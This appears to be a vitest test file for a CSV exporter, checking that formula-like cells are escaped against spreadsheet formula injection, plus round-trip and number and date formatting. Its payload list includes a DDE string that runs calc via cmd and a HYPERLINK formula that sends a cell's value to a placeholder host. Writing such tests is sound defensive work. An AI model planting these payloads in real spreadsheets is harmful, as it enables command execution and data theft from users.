import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Cell } from '../../../server/export/cell.ts'
import { csvRow } from '../../../server/export/csv.ts'
import { parseCsv } from './parse-csv.ts'

const asText = (text: string): Cell => ({ is: 'text', text })

/** What a spreadsheet computes: a field that starts with one of these once it is normalised and its margin is gone. */
const COMPUTES = /^[\s\p{Cc}\p{Cf}\p{Z}]*[=+\-@]/u
const isComputed = (field: string) => COMPUTES.test(field.normalize('NFKC')) || /^[\t\r\n]/.test(field)

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  '﹢',
  '﹣',
  '﹦',
  '|',
  '%',
  ' =',
  '\u200b=',
  '\ufeff=',
  '\u00a0+',
  '\u3000＝',
  '\u0000=',
  '"=',
  "'=",
]
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x/?"&A1,"点")',
  'SUM(A1:A9)',
  '2,3',
  'a"b',
  'a\r\n=1+1',
  '中文',
  '',
  '-1',
]

describe('a CSV for spreadsheets', () => {
  const hostile = STARTS.flatMap((start) =>
    BODIES.flatMap((body) => [start + body, `${start}${start}${body}`, `${body}${start}`, `${start} ${body}`]),
  )
  const random = fc.sample(fc.string({ unit: 'binary', maxLength: 24 }), { numRuns: 1500, seed: 7 })

  test('computes none of 2,400 hostile cells', () => {
    const cells = [...hostile, ...random]
    expect(cells.length).toBeGreaterThan(2_000)
    for (const text of cells) {
      const [[field = '', next] = []] = parseCsv(csvRow([asText(text), asText('end')]))
      expect([text, isComputed(field)]).toEqual([text, false])
      expect(next).toBe('end')
    }
  })

  test('would have computed many of them as they were (so the test above means something)', () => {
    expect(hostile.filter(isComputed).length).toBeGreaterThan(500)
  })

  test('brings back every text as it was, but for the apostrophe before what looks like a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 6 }), (texts) => {
        const [fields = []] = parseCsv(csvRow(texts.map(asText)))
        const bare = fields.map((field, i) => (field === `'${texts[i]}` ? field.slice(1) : field))
        expect(bare).toEqual(texts.map((text) => text.replaceAll('\0', '')))
      }),
    )
  })

  test('keeps numbers numbers, shares shares and moments on the clock of Shanghai', () => {
    const cells: Cell[] = [
      { is: 'number', value: 12 },
      { is: 'share', value: 0.25 },
      { is: 'moment', at: Date.UTC(2026, 10, 23, 17, 5) },
      { is: 'empty' },
    ]
    expect(csvRow(cells)).toBe('12,0.2500,2026-11-24 01:05,\r\n')
  })
})
